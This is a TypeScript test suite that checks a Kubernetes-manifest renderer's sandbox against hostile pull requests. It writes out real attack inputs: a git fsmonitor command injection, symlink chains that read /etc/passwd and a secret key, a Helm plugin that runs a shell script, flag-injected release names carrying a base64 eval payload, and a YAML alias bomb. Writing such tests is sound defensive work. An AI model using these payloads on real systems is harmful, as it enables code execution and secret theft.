/**
 * Hostile pull requests against the render path (issue 8, items 1–3 and 5). Each test
 * commits what an attacker would push and checks that the attack does not work: no
 * command runs from PR-written git config, no host file reaches the plan, no request
 * leaves a render, and runaway renders end as findings.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { plan } from '../../src/engine.js';
import { detectSandbox, renderHome } from '../../src/render/sandbox.js';
import type { AppPlan, Plan } from '../../src/types.js';
import { REPO_ROOT, TEST_HELM, testBinDir } from '../helpers/bin.js';
import { TestRepo, tempDir } from '../helpers/gitrepo.js';

const cleanups: Array<() => void> = [];
const cacheDir = tempDir('ferry-cache-');
cleanups.push(() => rmSync(cacheDir, { recursive: true, force: true }));
afterAll(() => cleanups.forEach((c) => c()));

/** A token the attacker wants: it sits in a host file outside every repository. */
const SECRET = `host-secret-${process.pid}-${Date.now()}`;
const secretDir = tempDir('ferry-host-');
const secretFile = path.join(secretDir, 'key.pem');
writeFileSync(secretFile, `${SECRET}\n`);
cleanups.push(() => rmSync(secretDir, { recursive: true, force: true }));

const CONFIG = `environments:\n  - name: staging\n    path: apps\nrender:\n  helm: ${TEST_HELM}\n`;

function repo(files: Record<string, string>): TestRepo {
  const r = new TestRepo().write({ '.github/ferry.yml': CONFIG, 'README.md': 'x\n', ...files });
  cleanups.push(() => r.cleanup());
  return r;
}

async function planOf(r: TestRepo, base: string, head: string): Promise<Plan> {
  return plan({ repo: r.dir, base, head, cacheDir });
}

function app(p: Plan, name: string): AppPlan {
  const a = p.environments.flatMap((e) => e.apps).find((x) => x.name === name);
  if (!a) throw new Error(`no app ${name} in ${JSON.stringify(p.environments.map((e) => e.apps.map((x) => x.name)))}`);
  return a;
}

/** A loopback server counting what reaches it: the attacker's SSRF target. */
async function listener(): Promise<{ url: string; hits: string[]; close(): void }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/yaml' }).end('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: from-the-network\n');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, close: () => server.close() };
}

const cm = (name: string) => `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${name}\ndata:\n  a: b\n`;

describe('render containment', () => {
  beforeAll(async () => {
    // These tests prove the isolation this machine kind provides; without it they must fail, not skip.
    const sb = await detectSandbox();
    expect(sb.namespaces, 'unshare with network/PID namespaces must work here (root or user namespaces)').toBe(true);
    expect(sb.limits, 'prlimit must be on PATH').toBe(true);
    expect(sb.filesystem, 'a mount namespace with tmpfs and read-only binds must work here').toBe(true);
  });

  it('a .gitconfig in the PR cannot run a command through the git that a remote kustomize base starts', async () => {
    const marker = path.join(tempDir('ferry-marker-'), 'pwned');
    cleanups.push(() => rmSync(path.dirname(marker), { recursive: true, force: true }));
    // A real git remote the base could be cloned from, on this machine.
    const remote = repo({ 'base/kustomization.yaml': 'resources: [cm.yaml]\n', 'base/cm.yaml': cm('remote') });
    remote.commit('remote base');
    const gitconfig = `[core]\n\tfsmonitor = "sh -c 'echo pwned > ${marker}; env >> ${marker}'"\n[safe]\n\tdirectory = *\n`;
    const r = repo({ 'apps/web/kustomization.yaml': 'resources: [cm.yaml]\n', 'apps/web/cm.yaml': cm('web') });
    const base = r.commit('base');
    r.write({
      '.gitconfig': gitconfig,
      'apps/web/.gitconfig': gitconfig,
      'apps/web/.config/git/config': gitconfig,
      'apps/web/kustomization.yaml': `resources:\n  - cm.yaml\n  - git::file://${remote.dir}//base?ref=main\n`,
    });
    const head = r.commit('attack');
    const p = await planOf(r, base, head);
    const web = app(p, 'web');
    expect(web.status).toBe('error');
    expect(web.findings.map((f) => f.rule)).toContain('remote-reference');
    expect(existsSync(marker)).toBe(false);
  });

  it('a renderer gets an empty HOME outside the tree, no git configuration, no network and no view of the server process', async () => {
    const target = await listener();
    cleanups.push(() => target.close());
    const port = new URL(target.url).port;
    // A stand-in for kustomize that reports what a malicious tool could see and reach.
    const bin = testBinDir();
    const spy = path.join(bin, 'kustomize');
    writeFileSync(
      spy,
      `#!/bin/bash
home_files=$(ls -A "$HOME" | tr '\\n' ' ')
gitcfg=$(cd "$HOME" && git config --list --show-origin 2>/dev/null | tr '\\n' ' ')
if (exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null; then net=open; else net=closed; fi
if [ -e /proc/${process.pid} ]; then server=visible; else server=hidden; fi
if cat ${secretFile} >/dev/null 2>&1; then readable=yes; else readable=no; fi
if ls ${cacheDir} >/dev/null 2>&1 && [ -n "$(ls -A ${cacheDir} 2>/dev/null)" ]; then cache=visible; else cache=hidden; fi
if touch "$PWD/planted" 2>/dev/null; then treeWrite=yes; else treeWrite=no; fi
if touch ${path.join(REPO_ROOT, 'planted-by-render')} 2>/dev/null; then hostWrite=yes; else hostWrite=no; fi
tmpList=$(ls -A ${tmpdir()} | tr '\\n' ' ')
if mount -o remount,bind,rw / 2>/dev/null; then remount=yes; else remount=no; fi
if ( : > /sys/fs/cgroup/ferry-probe ) 2>/dev/null; then sysWrite=yes; else sysWrite=no; fi
uid=$(id -u)
cat <<EOF
apiVersion: v1
kind: ConfigMap
metadata:
  name: spy
data:
  home: "$HOME"
  homeFiles: "$home_files"
  gitConfig: "$gitcfg"
  network: "$net"
  server: "$server"
  hostFile: "$readable"
  cache: "$cache"
  treeWrite: "$treeWrite"
  hostWrite: "$hostWrite"
  tmp: "$tmpList"
  remount: "$remount"
  sysWrite: "$sysWrite"
  uid: "$uid"
  cwd: "$PWD"
EOF
`,
    );
    chmodSync(spy, 0o755);
    const r = new TestRepo().write({
      '.github/ferry.yml': `environments:\n  - name: staging\n    path: apps\nrender:\n  kustomize: ${spy}\n`,
      'README.md': 'x\n',
    });
    cleanups.push(() => r.cleanup());
    const base = r.commit('base');
    // A new app: the spy's whole report is one added resource. Not a trivial kustomization
    // (those are rendered in process), so the tool runs.
    r.write({ 'apps/web/kustomization.yaml': 'resources: [cm.yaml]\nnamePrefix: web-\n', 'apps/web/.gitconfig': '[user]\n\tname = attacker\n', 'apps/web/cm.yaml': cm('web2') });
    const head = r.commit('head');
    const p = await planOf(r, base, head);
    const web = app(p, 'web');
    expect(web.findings.map((f) => f.message)).toEqual([]);
    const spyCm = web.changes.find((c) => c.name === 'spy');
    expect(spyCm).toBeDefined();
    const data: Record<string, string> = {};
    for (const m of spyCm!.diff!.matchAll(/^\+\s+(\w+): ['"]?(.*?)['"]?$/gm)) data[m[1]!] = m[2]!;
    expect(data.network).toBe('closed');
    expect(data.server).toBe('hidden');
    // Only what Ferry put there: no PR file, no dotfile.
    expect(data.homeFiles!.trim().split(' ').sort()).toEqual(['no-helm-plugins', 'tmp']);
    expect(data.gitConfig).toBe('');
    expect(data.home!.startsWith(path.join(tmpdir(), 'ferry-home-'))).toBe(true);
    // The rendered tree is not HOME, and HOME is not inside it.
    expect(data.home!.startsWith(data.cwd!)).toBe(false);
    expect(target.hits).toEqual([]);
    // The filesystem: no host file outside the tree, no Ferry cache, nothing writable but HOME,
    // and of the temporary folder only this render's tree and HOME.
    expect(data.hostFile).toBe('no');
    expect(data.cache).toBe('hidden');
    expect(data.treeWrite).toBe('no');
    expect(data.hostWrite).toBe('no');
    expect(existsSync(path.join(REPO_ROOT, 'planted-by-render'))).toBe(false);
    // Nor can it undo that: no remount, no kernel filesystem to write, and a server that
    // runs as root renders as nobody.
    expect(data.remount).toBe('no');
    expect(data.sysWrite).toBe('no');
    if (process.getuid?.() === 0) expect(data.uid).toBe('65534');
    // (A checkout inside the temporary folder stays, read-only: the stand-in tool lives in it.)
    const toolTop = path.relative(tmpdir(), bin).startsWith('..') ? [] : [path.relative(tmpdir(), bin).split('/')[0]!];
    expect(data.tmp!.trim().split(' ').sort()).toEqual([path.basename(data.cwd!), path.basename(data.home!), ...toolTop].sort());
    // Nothing of a render's HOME is left behind.
    expect(existsSync(data.home!)).toBe(false);
  });

  it('a symlink chain through a link to the tree root cannot read a host file into a Helm chart (.Files.Get)', async () => {
    const r = repo({
      'apps/x/chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 0.1.0\n',
      'apps/x/chart/templates/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: leak\ndata:\n  passwd: {{ .Files.Get "files/passwd" | quote }}\n  key: {{ .Files.Get "files/key" | quote }}\n',
      'apps/x/chart/files/.keep': '',
    });
    const base = r.commit('chart');
    // `l1` names exactly the tree root; from it, enough `..` reach the host's `/`.
    symlinkSync('../../..', path.join(r.dir, 'apps/x/chart/l1'));
    const up = '../'.repeat(40);
    symlinkSync(`../l1/${up}etc/passwd`, path.join(r.dir, 'apps/x/chart/files/passwd'));
    symlinkSync(`../l1/${up}${secretFile.slice(1)}`, path.join(r.dir, 'apps/x/chart/files/key'));
    const head = r.commit('links');
    const p = await planOf(r, base, head);
    const text = JSON.stringify(p);
    expect(text).not.toContain(SECRET);
    expect(text).not.toMatch(/root:x?:0:0/);
    const a = app(p, 'x/chart');
    expect(a.status).toBe('error');
    expect(a.findings.filter((f) => f.rule === 'path-escape').map((f) => f.file).sort()).toEqual([
      'apps/x/chart/files/key',
      'apps/x/chart/files/passwd',
      'apps/x/chart/l1',
    ]);
  });

  it('the same chain cannot read a host file through kustomize helmCharts', async () => {
    const r = repo({
      'apps/y/kustomization.yaml': 'helmCharts:\n  - name: c\n    releaseName: c\n',
      'apps/y/charts/c/Chart.yaml': 'apiVersion: v2\nname: c\nversion: 0.1.0\n',
      'apps/y/charts/c/templates/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: leak\ndata:\n  key: {{ .Files.Get "files/key" | quote }}\n',
    });
    const base = r.commit('chart');
    mkdirSync(path.join(r.dir, 'apps/y/charts/c/files'));
    symlinkSync('../../..', path.join(r.dir, 'apps/y/charts/l1'));
    symlinkSync(`../../l1/${'../'.repeat(40)}${secretFile.slice(1)}`, path.join(r.dir, 'apps/y/charts/c/files/key'));
    const head = r.commit('links');
    const p = await planOf(r, base, head);
    expect(JSON.stringify(p)).not.toContain(SECRET);
    const a = app(p, 'y');
    expect(a.status).toBe('error');
    expect(a.findings.map((f) => f.rule)).toContain('path-escape');
  });

  it('an in-repository symlink is rendered as a copy of its target', async () => {
    const r = repo({
      'shared/cm.yaml': cm('shared'),
      'apps/z/kustomization.yaml': 'resources: [cm.yaml]\n',
      'apps/z/cm.yaml': cm('z'),
    });
    const base = r.commit('base');
    symlinkSync('../../shared/cm.yaml', path.join(r.dir, 'apps/z/linked.yaml'));
    r.write({ 'apps/z/kustomization.yaml': 'resources: [cm.yaml, linked.yaml]\n' });
    const head = r.commit('link');
    const p = await planOf(r, base, head);
    const z = app(p, 'z');
    expect(z.findings).toEqual([]);
    expect(z.changes.map((c) => `${c.action} ${c.name}`)).toEqual(['added shared']);
  });

  it('remote resources, remote bases and remote Helm repositories are refused before rendering; nothing reaches the network', async () => {
    const target = await listener();
    cleanups.push(() => target.close());
    const r = repo({ 'apps/web/kustomization.yaml': 'resources: [cm.yaml]\n', 'apps/web/cm.yaml': cm('web') });
    const base = r.commit('base');
    r.write({
      'apps/web/kustomization.yaml': `resources:\n  - cm.yaml\n  - ${target.url}/cm.yaml\n  - git::${target.url}/org/repo.git//base?ref=main\n  - 127.0.0.1:${new URL(target.url).port}/org/repo//base?ref=v1\n`,
      'apps/charts/kustomization.yaml': `helmCharts:\n  - name: podinfo\n    repo: ${target.url}/charts\n    version: 6.0.0\n    releaseName: p\n`,
    });
    const head = r.commit('remote');
    const p = await planOf(r, base, head);
    const web = app(p, 'web');
    expect(web.status).toBe('error');
    expect(web.findings.filter((f) => f.rule === 'remote-reference')).toHaveLength(3);
    const charts = app(p, 'charts');
    expect(charts.findings.map((f) => f.rule)).toContain('remote-reference');
    expect(JSON.stringify(p)).not.toContain('from-the-network');
    expect(target.hits).toEqual([]);
  });

  it('a 417-byte YAML alias bomb in a kustomize resource ends as a memory-limit finding', async () => {
    const bomb = ['apiVersion: v1', 'kind: ConfigMap', 'metadata: {name: x}', 'data:', '  a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    const names = 'abcdefghi';
    for (let i = 1; i < names.length; i++) bomb.push(`  ${names[i]}: &${names[i]} [${Array(9).fill(`*${names[i - 1]}`).join(',')}]`);
    const r = repo({ 'apps/ok/cm.yaml': cm('ok') });
    const base = r.commit('base');
    r.write({ 'apps/bomb/kustomization.yaml': 'resources: [cm.yaml]\n', 'apps/bomb/cm.yaml': bomb.join('\n') + '\n', 'apps/ok/cm.yaml': cm('ok2') });
    const head = r.commit('bomb');
    const p = await planOf(r, base, head);
    const b = app(p, 'bomb');
    expect(b.status).toBe('error');
    expect(b.findings[0]).toMatchObject({ rule: 'render-limit' });
    expect(b.findings[0]!.message).toMatch(/memory limit/);
    // The other app still plans.
    expect(app(p, 'ok').status).toBe('rendered');
  });

  it('a Helm template looping 2,000,000,000 times ends as a limit finding, not a server out of memory', async () => {
    const r = repo({ 'apps/ok/cm.yaml': cm('ok') });
    const base = r.commit('base');
    r.write({
      'apps/loop/Chart.yaml': 'apiVersion: v2\nname: loop\nversion: 0.1.0\n',
      'apps/loop/templates/x.yaml': '{{ range until 2000000000 }}x{{ end }}\n',
    });
    const head = r.commit('loop');
    const p = await planOf(r, base, head);
    const l = app(p, 'loop');
    expect(l.status).toBe('error');
    expect(l.findings[0]).toMatchObject({ rule: 'render-limit' });
  });

  it('a renderer failure shows repository paths only: no server path, no process id', async () => {
    const r = repo({ 'apps/web/kustomization.yaml': 'resources: [cm.yaml]\n', 'apps/web/cm.yaml': cm('web') });
    const base = r.commit('base');
    r.write({ 'apps/web/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: [broken\n' });
    const head = r.commit('broken');
    const p = await planOf(r, base, head);
    const f = app(p, 'web').findings.find((x) => x.rule === 'render-error');
    expect(f).toBeDefined();
    expect(f!.message).toMatch(/kustomize failed for apps\/web/);
    expect(f!.message).not.toContain(tmpdir() + '/');
    expect(f!.message).not.toMatch(/ferry-(tree|home)-/);
  });

  it('a Helm downloader plugin planted through a generator file\'s configHome never runs', async () => {
    const marker = path.join(tempDir('ferry-marker-'), 'pwned');
    const plugin = `name: pl\nversion: 0.1.0\ncommand: "$HELM_PLUGIN_DIR/none"\ndownloaders:\n- command: "${'../'.repeat(14)}bin/sh apps/x/charts/cfg/x.sh"\n  protocols: [ferryx]\n`;
    const r = repo({ 'apps/ok/cm.yaml': cm('ok') });
    const base = r.commit('base');
    r.write({
      'apps/x/kustomization.yaml': 'generators: [gen.yaml]\nhelmGlobals: {chartHome: charts}\nhelmCharts: [{name: dummy, releaseName: d}]\n',
      'apps/x/gen.yaml': 'apiVersion: builtin\nkind: HelmChartInflationGenerator\nmetadata: {name: g}\nname: c\nversion: 1.0.0\nrepo: ferryx://evil/repo\nreleaseName: r\nchartHome: charts\nconfigHome: apps/x/charts/cfg\n',
      'apps/x/charts/dummy/Chart.yaml': 'apiVersion: v2\nname: dummy\nversion: 0.1.0\n',
      'apps/x/charts/dummy/values.yaml': '{}\n',
      'apps/x/charts/dummy/templates/cm.yaml': cm('dummy'),
      'apps/x/charts/cfg/.data/plugins/pl/plugin.yaml': plugin,
      'apps/x/charts/cfg/x.sh': `echo pwned > ${marker}\ncat ${secretFile} >&2\nexit 1\n`,
      // The same through the inline form.
      'apps/y/kustomization.yaml': 'helmGlobals: {chartHome: charts, configHome: charts/cfg}\nhelmCharts: [{name: dummy, releaseName: d}]\n',
      'apps/y/charts/dummy/Chart.yaml': 'apiVersion: v2\nname: dummy\nversion: 0.1.0\n',
      'apps/y/charts/dummy/templates/cm.yaml': cm('dummy'),
    });
    const head = r.commit('plugin');
    const p = await planOf(r, base, head);
    expect(existsSync(marker)).toBe(false);
    expect(JSON.stringify(p)).not.toContain(SECRET);
    for (const name of ['x', 'y']) {
      const a = app(p, name);
      expect(a.status).toBe('error');
      expect(a.findings.map((f) => f.rule)).toContain('render-refused');
    }
  });

  it('inside a render, helm runs only `template` and `version`, and finds no plugins', async () => {
    const home = await renderHome(TEST_HELM);
    try {
      const run = (args: string[]) => {
        try {
          return { code: 0, out: execFileSync(home.helm!, args, { env: { PATH: process.env.PATH, ...home.env }, stdio: 'pipe' }).toString() };
        } catch (err) {
          const e = err as { status: number; stderr: Buffer };
          return { code: e.status, out: e.stderr.toString() };
        }
      };
      expect(run(['version', '--short']).out).toMatch(/^v3\./);
      expect(run(['pull', 'ferryx://evil/repo/c'])).toEqual({ code: 1, out: 'helm pull (charts must be in the repository) is not allowed in a Ferry render\n' });
      // Whatever puts them on the command line: no program, no host file, no fetch.
      expect(run(['template', '--post-renderer=/bin/sh', 'x'])).toMatchObject({ code: 1, out: expect.stringMatching(/a release name starting with -/) });
      expect(run(['template', 'r', '/tmp/chart', '--post-renderer', '/bin/sh'])).toMatchObject({ code: 1, out: expect.stringMatching(/--post-renderer is not allowed/) });
      expect(run(['template', 'r', '/tmp/chart', '--set-file=f=/etc/passwd'])).toMatchObject({ code: 1 });
      expect(run(['template', 'r', '/tmp/chart', '--repo', 'http://127.0.0.1:9'])).toMatchObject({ code: 1 });
      expect(run(['plugin', 'install', 'x']).code).toBe(1);
      expect(run(['env']).code).toBe(1);
      expect(home.env.HELM_PLUGINS).toBeDefined();
      expect(readdirSync(home.env.HELM_PLUGINS!)).toEqual([]);
    } finally {
      await home.dispose();
    }
  });

  it('a patch named only by a PatchTransformer is an input: changing it plans the app', async () => {
    const deploy = (image: string) => `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: b\nspec:\n  selector: {matchLabels: {app: b}}\n  template:\n    metadata: {labels: {app: b}}\n    spec:\n      containers:\n        - name: b\n          image: ${image}\n`;
    const r = repo({
      'apps/b/kustomization.yaml': 'resources: [deploy.yaml]\ntransformers: [tx.yaml]\n',
      'apps/b/tx.yaml': 'apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: t}\npath: patches/patch.yaml\ntarget: {kind: Deployment}\n',
      'apps/b/deploy.yaml': deploy('nginx:1.27'),
      'apps/b/patches/patch.yaml': deploy('nginx:1.27'),
    });
    const base = r.commit('base');
    r.write({ 'apps/b/patches/patch.yaml': deploy('evil.example/backdoor:latest') });
    const head = r.commit('only the patch');
    const p = await planOf(r, base, head);
    const b = app(p, 'b');
    expect(b.changes.map((c) => `${c.action} ${c.kind}/${c.name}`)).toEqual(['changed Deployment/b']);
    expect(b.changes[0]!.diff).toMatch(/^\+\s+- image: evil.example\/backdoor:latest$/m);
  });

  it('many symlinks to one large folder are refused by file count, without exhausting memory or file descriptors', async () => {
    const data: Record<string, string> = {};
    for (let i = 0; i < 3000; i++) data[`data/f${i}.txt`] = 'x';
    const r = repo({ ...data, 'apps/x/kustomization.yaml': 'resources: [cm.yaml]\n', 'apps/x/cm.yaml': cm('x') });
    const base = r.commit('base');
    for (let i = 0; i < 10; i++) symlinkSync('../../data', path.join(r.dir, `apps/x/l${i}`));
    r.write({ 'apps/x/cm.yaml': cm('x2') });
    const head = r.commit('fan-out');
    const p = await planOf(r, base, head);
    const x = app(p, 'x');
    expect(x.status).toBe('error');
    expect(x.findings.map((f) => f.message).join('\n')).toMatch(/more than 20000 files/);
  });

  it('rendered output is bounded per plan, not only per app', async () => {
    const chart = (n: string) => ({
      [`apps/${n}/Chart.yaml`]: `apiVersion: v2\nname: ${n}\nversion: 0.1.0\n`,
      // About 600 KB of output each: under the per-render limit, over a 1 MiB plan budget together.
      [`apps/${n}/templates/cms.yaml`]: '{{- range $i := until 6000 }}\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: "c{{ $i }}"}\ndata: {k: v, x: "{{ $i }}"}\n{{- end }}\n',
    });
    const r = repo({ 'apps/ok/cm.yaml': cm('ok') });
    const base = r.commit('base');
    r.write({ ...chart('a'), ...chart('b'), ...chart('c') });
    const head = r.commit('charts');
    process.env.FERRY_MAX_PLAN_OUTPUT_MB = '1';
    let p: Plan;
    try {
      p = await planOf(r, base, head);
    } finally {
      delete process.env.FERRY_MAX_PLAN_OUTPUT_MB;
    }
    const limited = p.environments[0]!.apps.filter((a) => a.findings.some((f) => f.rule === 'render-limit'));
    expect(limited.length).toBeGreaterThanOrEqual(1);
    expect(limited[0]!.findings[0]!.message).toMatch(/rendered more than 1 MiB in all/);
    expect(p.environments[0]!.apps.filter((a) => a.status === 'rendered').length).toBeGreaterThanOrEqual(1);
  });

  it('nothing from the repository reaches helm as a flag: release names, chart names, folder names, the legacy generator field', async () => {
    const script = Buffer.from('printf "apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: owned\\ndata:\\n  id: \\"%s\\"\\n" "$(id)"').toString('base64');
    // Valid YAML and, for a post-renderer `sh`, a script.
    const payload = `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: pwn\nx: ; eval "$(echo ${script} | base64 -d)"\n`;
    const chart = (dir: string) => ({
      [`${dir}/Chart.yaml`]: 'apiVersion: v2\nname: c\nversion: 0.1.0\n',
      [`${dir}/values.yaml`]: '{}\n',
      [`${dir}/templates/x.yaml`]: payload,
    });
    const r = repo({ 'apps/ok/cm.yaml': cm('ok') });
    const base = r.commit('base');
    r.write({
      'apps/k1/kustomization.yaml': 'helmCharts: [{name: c, releaseName: "--post-renderer=/bin/sh"}]\n',
      ...chart('apps/k1/charts/c'),
      'apps/k2/kustomization.yaml': 'helmCharts: [{name: c, releaseName: "--set-file=f=/etc/passwd"}]\n',
      ...chart('apps/k2/charts/c'),
      'apps/k3/kustomization.yaml': 'helmChartInflationGenerator: [{chartName: c, releaseName: legacy}]\n',
      ...chart('apps/k3/charts/c'),
      'apps/k4/kustomization.yaml': 'helmCharts: [{name: ../../k1/charts/c, releaseName: x}]\n',
      ...chart('apps/--post-renderer=sh'),
    });
    const head = r.commit('flags');
    const p = await planOf(r, base, head);
    const text = JSON.stringify(p);
    expect(text).not.toContain('owned');
    expect(text).not.toMatch(/root:x?:0:0/);
    for (const name of ['k1', 'k2', 'k3', 'k4', '--post-renderer=sh']) {
      const a = app(p, name);
      expect(a.status, name).toBe('error');
      expect(a.findings.map((f) => f.rule), name).toContain('render-refused');
    }
  });

  it('a server running as an unprivileged user (user namespaces) renders with no capabilities: nothing can be unmounted or remounted', () => {
    // The same sandbox, probed and used by a process of uid 1000, as the Docker image runs.
    const work = tempDir('ferry-userns-');
    chmodSync(work, 0o777);
    const script = path.join(testBinDir(), 'userns.mts');
    writeFileSync(
      script,
      `import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import path from 'node:path';
import { detectSandbox } from ${JSON.stringify(path.join(REPO_ROOT, 'src/render/sandbox.ts'))};
const sb = await detectSandbox();
const root = ${JSON.stringify(work)};
const tree = mkdtempSync(path.join(root, 'tree-'));
const home = mkdtempSync(path.join(root, 'home-'));
const probe = 'id -u; grep CapEff /proc/self/status; umount ' + root + ' 2>/dev/null && echo unmounted; mount -o remount,rw,bind / 2>/dev/null && echo remounted; true';
const l = sb.wrap('/bin/sh', ['-c', probe], { tmpRoot: root, tree, home, hidden: [] });
console.log(JSON.stringify({ namespaces: sb.namespaces, filesystem: sb.filesystem, setup: sb.setup, out: execFileSync(l.cmd, l.args, { cwd: tree }).toString() }));
`,
    );
    chmodSync(script, 0o644);
    const out = execFileSync('setpriv', ['--reuid=1000', '--regid=1000', '--clear-groups', process.execPath, '--import', 'tsx', script], {
      cwd: REPO_ROOT,
      // tsx would leave its compile cache in the temp folder.
      env: { PATH: process.env.PATH, HOME: work, TSX_DISABLE_CACHE: '1' },
    }).toString();
    const r = JSON.parse(out.trim().split('\n').at(-1)!) as { namespaces: boolean; filesystem: boolean; setup: string; out: string };
    expect(r.namespaces).toBe(true);
    expect(r.filesystem).toBe(true);
    // The Perl setup works in a user namespace too (the flags it locks are kept on remount).
    expect(r.setup).toBe('perl');
    const [uid, caps, ...rest] = r.out.trim().split('\n');
    expect(uid).toBe('0'); // root of its own user namespace…
    expect(caps).toMatch(/^CapEff:\s+0+$/); // …with no capability left
    expect(rest).toEqual([]);
  });

  it('the Perl mount setup and the shell one it replaces give a render the same view of the filesystem', () => {
    // Each in a fresh process (the sandbox is probed once per process); FERRY_SANDBOX_SETUP=sh picks the shell.
    const script = path.join(testBinDir(), 'setups.mts');
    writeFileSync(
      script,
      `import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { detectSandbox } from ${JSON.stringify(path.join(REPO_ROOT, 'src/render/sandbox.ts'))};
const sb = await detectSandbox();
const root = mkdtempSync(path.join(process.argv[2], 'tmp-'));
const tree = mkdtempSync(path.join(root, 'tree-'));
const home = mkdtempSync(path.join(root, 'home-'));
mkdirSync(path.join(home, 'tmp'));
writeFileSync(path.join(mkdtempSync(path.join(root, 'other-')), 'plan'), 'another plan');
const cache = mkdtempSync(path.join(process.argv[2], 'cache-'));
writeFileSync(path.join(cache, 'render'), 'cached');
const key = path.join(process.argv[2], 'key.pem');
writeFileSync(key, 'secret');
const q = (p) => "'" + p + "'";
const probe = [
  'id -u', 'ls -A ' + q(root) + ' | wc -l', 'cat ' + q(key) + ' 2>/dev/null | grep -c secret', 'ls -A ' + q(cache) + ' 2>/dev/null | wc -l',
  'touch x 2>/dev/null && echo tree-written', 'touch ' + q(home) + '/tmp/x && echo home-written', 'stat -c %u ' + q(home),
  'mount -o remount,rw,bind / 2>/dev/null && echo remounted', 'umount ' + q(root) + ' 2>/dev/null && echo unmounted', 'grep CapEff /proc/self/status', 'pwd | grep -c ' + q(tree), process.argv[3], 'true',
].join('; ');
const l = sb.wrap('/bin/sh', ['-c', probe], { tmpRoot: root, tree, home, hidden: [cache, key] });
console.log(JSON.stringify({ setup: sb.setup, out: execFileSync(l.cmd, l.args, { cwd: tree }).toString() }));
`,
    );
    const views = ['perl', 'sh'].map((setup) => {
      const work = tempDir('ferry-setup-');
      chmodSync(work, 0o755); // as the system's temporary folder is: nobody passes through it
      cleanups.push(() => rmSync(work, { recursive: true, force: true }));
      // Writable mounts but HOME and the kernel's: none (as nobody, permissions alone would also stop a write).
      const rwMounts = String.raw`awk '$4 ~ /^rw/ && $2 !~ "^/(proc|sys|dev)(/|$)" {print $2}' /proc/self/mounts | grep -vc /home-`;
      const out = execFileSync(process.execPath, ['--import', 'tsx', script, work, rwMounts], {
        cwd: REPO_ROOT,
        env: { PATH: process.env.PATH, HOME: work, TSX_DISABLE_CACHE: '1', FERRY_SANDBOX_SETUP: setup },
      }).toString();
      return JSON.parse(out.trim().split('\n').at(-1)!) as { setup: string; out: string };
    });
    expect(views.map((v) => v.setup)).toEqual(['perl', 'sh']);
    const root = process.getuid?.() === 0;
    // nobody (as root) or root of a user namespace; only the tree and HOME of the temporary
    // folder; key and cache hidden; the tree read-only; HOME writable (and nobody's, as root);
    // nothing remounted or unmounted; no capability; the working folder is the tree.
    const expected = [root ? '65534' : '0', '2', '0', '0', 'home-written', root ? '65534' : String(process.getuid?.()), 'CapEff:\t0000000000000000', '1', '0'];
    expect(views[0]!.out.trim().split('\n')).toEqual(expected);
    expect(views[1]!.out).toBe(views[0]!.out);
  });

  it('a valid helmCharts app still renders through the helm wrapper, kubeVersion included', async () => {
    const r = repo({ 'apps/ok/cm.yaml': cm('ok') });
    const base = r.commit('base');
    r.write({
      'apps/h/kustomization.yaml': 'helmCharts:\n  - name: c\n    releaseName: rel\n    kubeVersion: "1.31.0"\n',
      'apps/h/charts/c/Chart.yaml': 'apiVersion: v2\nname: c\nversion: 0.1.0\n',
      'apps/h/charts/c/values.yaml': '{}\n',
      'apps/h/charts/c/templates/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Release.Name }}-cm\ndata:\n  kube: "{{ .Capabilities.KubeVersion.Version }}"\n',
    });
    const head = r.commit('chart');
    const p = await planOf(r, base, head);
    const h = app(p, 'h');
    expect(h.findings.map((f) => f.message)).toEqual([]);
    expect(h.changes.map((c) => `${c.action} ${c.kind}/${c.name}`)).toEqual(['added ConfigMap/rel-cm']);
    expect(h.changes[0]!.diff).toMatch(/kube: v1\.31\.0/);
  });

  it('editing only what a symlink points at plans the apps that use it', async () => {
    const r = repo({
      'shared/cm.yaml': cm('shared'),
      'shared/web/kustomization.yaml': 'resources: [cm.yaml]\n',
      'shared/web/cm.yaml': cm('web'),
      'apps/z/kustomization.yaml': 'resources: [linked.yaml]\n',
      'apps/prod/README.md': 'x\n',
    });
    symlinkSync('../../shared/cm.yaml', path.join(r.dir, 'apps/z/linked.yaml'));
    symlinkSync('../../shared/web', path.join(r.dir, 'apps/prod/web'));
    const base = r.commit('base');
    r.write({ 'shared/cm.yaml': cm('shared2'), 'shared/web/cm.yaml': cm('web2') });
    const head = r.commit('edit the targets only');
    const p = await planOf(r, base, head);
    expect(app(p, 'z').changes.map((c) => `${c.action} ${c.name}`).sort()).toEqual(['added shared2', 'removed shared']);
    expect(p.environments[0]!.apps.map((a) => a.name).sort()).toContain('z');
  });
});
